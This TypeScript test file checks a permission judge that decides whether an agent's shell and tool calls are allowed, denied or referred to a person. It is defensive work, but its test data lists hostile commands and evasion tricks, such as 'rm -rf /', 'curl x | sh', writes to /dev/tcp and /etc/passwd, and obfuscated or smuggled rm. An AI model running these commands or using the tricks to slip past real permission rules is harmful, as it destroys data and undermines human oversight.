import { expect, test } from "vitest";
import type { ToolCall } from "@dispatch/protocol/tool-call";
import { judge } from "./judge.ts";
import { bash, ruleOf } from "./rules.fixture.ts";

const CWD = "/work/space";
const effectOf = (call: ToolCall, ...rules: string[]) =>
  judge(
    call,
    rules.map((rule) => ruleOf(rule)),
  ).effect;

test.each([
  ["git status", "git *"],
  ["git", "git *"],
  ["git log --oneline -n 3", "git log *"],
  ["npm run test -- --watch", "npm run *"],
  ["npm run test:unit", "npm run test*"],
  ["\"git\" 'status'", "git *"],
  ["git commit -m 'a; rm -rf / && $(x) `y`'", "git commit *"],
  ["git status # and no more; rm x", "git *"],
  ["git status 2>&1", "git *"],
  ["git status >/dev/null 2>/dev/null", "git *"],
  ["git commit -F - <<'EOF'\nrm -rf $(x)\nEOF\n", "git *"],
  ["git \\\n  status", "git *"],
  ["docker exec web ls", "docker exec * ls"],
  ["rm -rf build && npm test", "rm -rf build && npm test"],
  ["echo $(date) | sh", "echo $(date) | sh"],
  ["rm *.log", "rm \\*.log"],
])("%j is allowed by %j", (command, pattern) => {
  expect(effectOf(bash(command), `allow Bash ${pattern}`)).toBe("allow");
});

test.each([
  ["git status; rm -rf /", "git *"],
  ["git status && rm x", "git *"],
  ["git status || rm x", "git *"],
  ["git log | sh", "git *"],
  ["git status & rm x", "git *"],
  ["git status\nrm x", "git *"],
  ["git-evil", "git *"],
  ["git status -x", "git status"],
  ["/tmp/git status", "git *"],
  ["./git status", "git *"],
  ["git status $(rm x)", "git *"],
  ["git status `rm x`", "git *"],
  ['git status "$(rm x)"', "git *"],
  ['git status "`rm x`"', "git *"],
  ["git diff <(rm x)", "git *"],
  ["git diff >(rm x)", "git *"],
  ["git status $X", "git *"],
  ["git status ${X:-$(rm x)}", "git *"],
  ["git status $((1+1))", "git *"],
  ['git status "$\\\n(rm x)"', "git *"],
  ["git status '", "git *"],
  ['git status "', "git *"],
  ["git status \\", "git *"],
  ["git log > out.txt", "git *"],
  ["git log >| out.txt", "git *"],
  ["git log &> out.txt", "git *"],
  ["git log >& out.txt", "git *"],
  ["git log <> out.txt", "git *"],
  ["git log > /dev/tcp/host/80", "git *"],
  ["git commit -F - <<EOF\n$(rm x)\nEOF\n", "git *"],
  ["git commit -F - <<EOF\nnothing\nEOF\nrm x", "git *"],
  ["git commit -F - <<'EOF'\nno end", "git *"],
  ["git() { rm x; }; git status", "git *"],
  ["function git { rm x; }; git status", "git *"],
  ["PATH=/tmp git status", "git *"],
  ["GIT_PAGER='rm x' git log", "git *"],
  ["PATH=/tmp; git status", "git *"],
  ["sudo git status", "git *"],
  ["env git status", "git *"],
  ["bash -c 'git status'", "git *"],
  ["(git status; rm x)", "git *"],
  ["{ git status; rm x; }", "git *"],
  ["if git status; then rm x; fi", "git *"],
  ["for x in a; do git $x; done", "git *"],
  ["g?t status", "g?t *"],
  ["{git,status}", "*"],
  ["git status\r\nrm x", "git *"],
  ["git status (rm x)", "git *"],
  ["git a[1<<2]=3", "git *"],
  ["git status;#\nrm x", "git *"],
  ["docker exec web sh ls", "docker exec * ls"],
  ["npm 'run test'", "npm run *"],
  ["echo x; echo $(rm x) | sh", "echo $(date) | sh"],
  ["", "*"],
  ["git status", "*"],
])("%j is not allowed by %j", (command, pattern) => {
  const tool = pattern === "*" && command === "git status" ? "*" : "Bash";
  expect(effectOf(bash(command), `allow ${tool} ${pattern}`)).toBe("none");
});

test.each([
  "rm x",
  "rm",
  "sudo rm -rf x",
  "sudo -u bob rm x",
  "/bin/rm x",
  "../../bin/rm x",
  "a && rm x",
  "a;rm x",
  "a|rm x",
  "a & rm x",
  "a\nrm x",
  "sh -c 'rm x'",
  "bash -lc 'rm x'",
  "bash -o pipefail -c 'cd y && rm x'",
  "sh -c \"sh -c 'rm x'\"",
  "\\rm x",
  '"rm" x',
  "r''m x",
  "r\\m x",
  "r\\\nm x",
  "$'rm' x",
  "$'\\x72m' x",
  "$'\\162m' x",
  "$'rm\\0y' x",
  "r$@m x",
  "$nothing rm x",
  "rm$IFS-rf${IFS}x",
  "VAR=1 rm x",
  "VAR=1 OTHER='a b' /bin/rm x",
  "find . -exec rm {} ;",
  "find . -exec rm {} \\;",
  "find . -name x -execdir rm {} +",
  "ls | xargs rm",
  "ls | xargs -n 1 -0 rm -f",
  "ls | xargs -I{} sh -c 'rm {}'",
  "env rm x",
  "env -i A=1 rm x",
  "env -S 'rm x'",
  "command rm x",
  "exec rm x",
  "nohup rm x &",
  "time rm x",
  "time -p rm x",
  "timeout 5 rm x",
  "timeout -k 1 5 rm x",
  "nice -n 5 rm x",
  "busybox rm x",
  "eval rm x",
  'eval "rm x"',
  "trap 'rm x' EXIT",
  "echo $(rm x)",
  'echo "$(rm x)"',
  'echo "a `rm x` b"',
  "echo `echo \\`rm x\\``",
  "echo ${a:-$(rm x)}",
  'echo "${a:-`rm x`}"',
  "cat <(rm x)",
  "echo $((a[$(rm x)]))",
  "echo $((1<<2))\nrm x",
  "a=(b c); rm x",
  "a=$(rm x)",
  "(rm x)",
  "( (rm x) )",
  "{ rm x; }",
  "! rm x",
  "if a; then rm x; fi",
  "while a; do rm x; done",
  "case a in a) rm x;; esac",
  'echo "$(case a in a) echo esac;; b) rm x;; esac)"',
  "f() { rm x; }; f",
  "function f { rm x; }",
  "cat <<EOF\n$(rm x)\nEOF\n",
  "cat <<EOF\ntext\nEO\\\nF\nrm x",
  "cat <<'EOF'\ntext\nEOF\nrm x",
  "cat <<-A <<B\n\tA\nB\nrm x",
  "bash <<EOF\nrm x\nEOF\n",
  "sh <<< 'rm x'",
  "echo 'rm x' | sh",
  "echo -e 'rm x' | sudo sh -s",
  "cat <<'EOF' | bash\nrm x\nEOF\n",
  ">out rm x",
  "2>/dev/null rm x",
  ">&-rm x",
  "a > b; rm x",
  "{rm,-rf,x}",
  "a # b\nrm x",
  "a#b; rm x",
  "r\0m x",
])("a rule against `rm *` catches %j", (command) => {
  expect(effectOf(bash(command), "deny Bash rm *", "allow Bash")).toBe("deny");
});

test.each([
  "git rm-rf",
  "echo rm x",
  "echo 'a; rm x'",
  "rmdir x",
  "ls # rm x",
  "cat <<'EOF'\nrm x\nEOF\n",
  "cat <<EOF\nrm x\nEOF\n",
  "git commit -m 'rm x'",
  "command -v rm",
  "echo rm x | grep sh",
])("a rule against `rm *` leaves %j", (command) => {
  expect(effectOf(bash(command), "deny Bash rm *")).toBe("none");
});

test.each([
  ["git push origin main --force", "git push * --force"],
  ["git push --force", "git push * --force"],
  ["git push -q --force-with-lease", "git push*--force*"],
  ["curl x | sh", "*| sh"],
  ["echo aaab", "*aab"],
  ["cd x && git push --force", "git push * --force"],
])("a star in a rule that forbids goes over words: %j by %j", (command, pattern) => {
  expect(effectOf(bash(command), `deny Bash ${pattern}`)).toBe("deny");
});

test.each([
  "echo 'open",
  'echo "open',
  "echo $(open",
  "cat <<EOF\nopen",
  `${"$(".repeat(100)}rm x`,
  "echo ${ rm x; }",
  "$X x",
  "${x:-rm x; }then y",
  "${x:-rm }a=1 y",
  "a=1 2>&1 r? x",
  "if ${x:-rm} x; then b; fi",
  "r? x",
  "a[1<<2]=3\nrm x\n2]=3\n",
])("what cannot be read to its end is for a person where something is forbidden: %j", (command) => {
  expect(effectOf(bash(command), "deny Bash never *", "allow Bash")).toBe("ask");
  expect(effectOf(bash(command), "allow Bash")).toBe("allow");
});

test("several rules allow together what none of them does alone, and each part names its rule", () => {
  const rules = ["allow Bash git *", "allow Bash npm run *"].map((rule) => ruleOf(rule));
  const verdict = judge(bash("git pull && (npm run build | npm run check)"), rules);
  expect(verdict.effect).toBe("allow");
  expect(verdict.parts.map(({ text, ruleId }) => [text, ruleId])).toEqual([
    ["git pull", rules[0]!.id],
    ["npm run build", rules[1]!.id],
    ["npm run check", rules[1]!.id],
  ]);
});

test("behind a wrapper both are asked for", () => {
  expect(effectOf(bash("timeout 5 npm test"), "allow Bash npm *")).toBe("none");
  expect(effectOf(bash("timeout 5 npm test"), "allow Bash timeout *")).toBe("none");
  expect(effectOf(bash("timeout 5 npm test"), "allow Bash timeout *", "allow Bash npm *")).toBe("allow");
  expect(effectOf(bash("timeout -s 9 5 npm test"), "allow Bash timeout *", "allow Bash npm *")).toBe("none");
  expect(effectOf(bash("bash -c 'npm test; rm x'"), "allow Bash bash *", "allow Bash npm *")).toBe("none");
});

test("a redirect writes a file, and needs what an edit of it needs", () => {
  const both = ["allow Bash echo *", "allow kind:edit src/**"];
  expect(effectOf(bash("echo x > src/a"), ...both)).toBe("allow");
  expect(effectOf(bash("echo x >> src/../src/a"), ...both)).toBe("allow");
  expect(effectOf(bash("echo x > src/../b"), ...both)).toBe("none");
  expect(effectOf(bash("echo x > ../src/a"), ...both)).toBe("none");
  expect(effectOf(bash("echo x > /etc/passwd"), ...both)).toBe("none");
  expect(effectOf(bash("echo x > ~/src/a"), ...both)).toBe("none");
  expect(effectOf(bash("cd /etc && echo x > src/a"), ...both, "allow Bash cd *")).toBe("none");
  expect(effectOf(bash("echo x > src/a", { cwd: "/etc" }), ...both)).toBe("none");
  expect(effectOf(bash("echo x > .env"), "deny kind:edit **/.env*", "allow Bash")).toBe("deny");
  expect(effectOf(bash("cat < .env"), "deny Read **/.env*", "allow Bash")).toBe("deny");
  expect(effectOf(bash("cat sub/.env"), "deny * **/.env*", "allow Bash")).toBe("deny");
});

test("arguments without a shell are taken as they are", () => {
  const call = (...command: string[]): ToolCall => ({
    tool: "shell",
    kind: "execute",
    input: { command },
    cwd: CWD,
  });
  expect(effectOf(call("git", "log; rm x"), "allow shell git *")).toBe("allow");
  expect(effectOf(call("bash", "-lc", "git log; rm x"), "allow shell git *", "allow shell bash *")).toBe(
    "none",
  );
  expect(effectOf(call("bash", "-lc", "git log; rm x"), "deny shell rm *")).toBe("deny");
  expect(effectOf(call("git", "log; rm x"), "allow shell git log; rm x")).toBe("none");
  const withArgs = { tool: "run", kind: "execute" as const, input: { command: "rm", args: ["-rf", "x"] } };
  expect(effectOf(withArgs, "deny kind:execute rm *")).toBe("deny");
});

test("a call that is several things is allowed by no pattern, and forbidden by each", () => {
  const call: ToolCall = { tool: "do", kind: "read", input: { command: "rm x", path: "src/a" }, cwd: CWD };
  expect(effectOf(call, "allow do src/**", "allow do rm *", "allow kind:read", "allow do *x*")).toBe("none");
  expect(effectOf(call, "deny kind:execute rm *")).toBe("deny");
  expect(effectOf(call, "deny do src/**", "allow do")).toBe("deny");
  const unnamed: ToolCall = { tool: "run", kind: "execute", input: { code: "rm x" } };
  expect(effectOf(unnamed, "deny run rm *", "allow run")).toBe("deny");
  expect(effectOf(unnamed, "allow run rm *")).toBe("none");
});

test("deny is before ask, and ask before allow, whatever their levels", () => {
  const rules = [
    ruleOf("allow *", "session"),
    ruleOf("ask Bash git push *", "user"),
    ruleOf("deny Bash git push --force", "workspace"),
  ];
  expect(judge(bash("git push --force"), rules).effect).toBe("deny");
  expect(judge(bash("git push"), rules).effect).toBe("ask");
  expect(judge(bash("git pull"), rules).effect).toBe("allow");
  expect(judge(bash("git pull"), rules.slice(1)).effect).toBe("none");
});

test("a verdict explains itself", () => {
  const rules = [ruleOf("deny Bash rm *", "server"), ruleOf("allow Bash git *")];
  const verdict = judge(bash("git status && rm x"), rules);
  expect(verdict.sentence).toBe("Denied by the rule of this server “deny Bash: rm *”: it matches `rm x`.");
  expect(verdict.considered.map(({ matches, why }) => [matches, why])).toEqual([
    [true, "it matches `rm x`"],
    [false, "it allows a part, and nothing allows `rm x`"],
  ]);
  expect(judge(bash("git log; rm x"), rules.slice(1)).sentence).toBe(
    "No rule decides this: nothing speaks of `rm x`.",
  );
  expect(judge(bash("git $X"), rules.slice(1)).sentence).toContain("cannot be understood well enough");
});
